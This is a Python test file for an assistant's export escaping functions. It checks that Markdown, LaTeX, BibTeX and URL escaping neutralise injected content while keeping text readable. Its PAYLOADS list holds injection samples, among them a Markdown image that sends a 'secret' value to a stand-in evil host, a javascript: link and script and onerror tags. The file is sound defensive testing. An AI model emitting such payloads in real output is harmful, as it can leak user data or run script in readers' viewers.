"""Escaping is judged by a Markdown parser that knows nothing of it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from assistant.export.escape import escape_bibtex, escape_latex, escape_markdown, verbatim_url

PAYLOADS = [
    "![x](http://evil.example/?q=secret)",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    "[click](javascript:alert(1))",
    "[ref]: http://evil.example",
    "![ref][1]",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    "<https://evil.example>",
    "https://evil.example/a?b=c&d=e",
    "www.evil.example",
    "&lt;b&gt; &#x202e;",
    "a | b | c",
    "| --- | --- |",
    "# heading",
    "- item",
    "+ item",
    "1. item",
    "1) item",
    "> quote",
    "---",
    "===",
    "```sh",
    "    code",
    "`code` ``x``",
    "*a* **b** _c_ __d__ ~~e~~",
    "$\\times$ $$x^2$$",
    "a\\",
    "\\![x](http://evil.example)",
    "line\n\n# heading\n\n![x](http://evil.example)",
    ":smile: :red[text]",
]
PLACES = ["{}", "## {}", "- {}", "  > {}", "**{}**", "x {} y"]
ALPHABET = st.one_of(st.sampled_from("\\`*_{}[]()<>#+-.!|~$^&:=@/ \n\t1aw"), st.characters(codec="utf-8"))


def tokens_of(markdown: str) -> list[Token]:
    parsed = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    return [token for block in parsed for token in (block, *(block.children or []))]


def shown(markdown: str) -> str:
    return "".join(token.content for token in tokens_of(markdown) if token.type in {"text", "text_special"})


def visible(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("place", PLACES)
def test_nothing_active_survives_in_any_place(payload: str, place: str) -> None:
    harmless = {token.type for token in tokens_of(place.format("word"))}
    assert {token.type for token in tokens_of(place.format(escape_markdown(payload)))} <= harmless


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_shown_verbatim(payload: str) -> None:
    assert shown(escape_markdown(payload)) == visible(payload)


@given(st.text(ALPHABET, max_size=60))
def test_any_text_becomes_one_inert_paragraph_that_shows_it(text: str) -> None:
    escaped = escape_markdown(text)
    assert {token.type for token in tokens_of(escaped)} <= {
        "paragraph_open",
        "paragraph_close",
        "inline",
        "text",
    }
    pictured = "".join(escape_markdown(c) if not c.isprintable() and not c.isspace() else c for c in text)
    assert shown(escaped) == visible(pictured)


@pytest.mark.parametrize(
    "address", ["https://evil.example", "HTTP://evil.example", "www.evil.example", "mailto:a@evil.example"]
)
def test_bare_address_is_broken_for_parsers_that_link_it(address: str) -> None:
    assert address not in escape_markdown(f"see {address} now")


@pytest.mark.parametrize("control", ["\x1b", "\x00", "\x07", "\x9b", "\u202e", "\ud800"])
def test_control_character_becomes_a_visible_sign(control: str) -> None:
    escaped = escape_markdown(f"a{control}[31mb")
    assert control not in escaped
    escaped.encode()


@pytest.mark.parametrize(
    "plain", ["2.8x faster, up to 30% (kernel only)", "FlashAttention-3: fast!", "3.5x gains"]
)
def test_plain_sentence_stays_readable(plain: str) -> None:
    assert escape_markdown(plain) == plain


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("Quantization-Aware", r"Quantization\nobreak\hspace{0pt}-\hspace{0pt}Aware"),
        ("SmoothQuant", r"Smooth\hspace{0pt}Quant"),
        ("LLaMA-3.1_8B", r"LLa\hspace{0pt}MA-\hspace{0pt}3.1\_\hspace{0pt}8B"),
        ("a/b", "a/b"),
        ("(background)", "(background)"),
        ("model's", "model's"),
        ("0123456789abcdef", r"01234567\hspace{0pt}89abcdef"),
        ("representation", "representation"),
    ],
)
def test_long_word_may_be_broken_at_its_joints(text: str, escaped: str) -> None:
    assert escape_latex(text, longest=7) == escaped


@pytest.mark.parametrize(
    ("text", "escaped"),
    [("''", "'{}'"), (",,", ",{},"), ("e\u0301", "é"), ("x\u1fef", r"x\textasciigrave{}")],
)
def test_no_two_signs_become_another_one_in_latex(text: str, escaped: str) -> None:
    assert escape_latex(text) == escaped


def test_braces_of_a_field_are_no_braces_to_bibtex() -> None:
    assert escape_bibtex('{"a}') == r'\textbraceleft{}{"}a\textbraceright{}'


@pytest.mark.parametrize(
    ("text", "verbatim"),
    [
        ("https://x.example/a_b?c=1%20&d#e~f", "https://x.example/a_b?c=1%20&d#e~f"),
        ("10.1002/(SICI)1<1::AID>3.0.CO;2-2", "10.1002/(SICI)1<1::AID>3.0.CO;2-2"),
        ("100%\\input{x}\n$^", "100%25%5Cinput%7Bx%7D%20%24%5E"),
        ("é|`\x00", "%C3%A9%7C%60%E2%90%80"),
    ],
)
def test_address_keeps_all_but_what_tex_acts_on(text: str, verbatim: str) -> None:
    assert verbatim_url(text) == verbatim
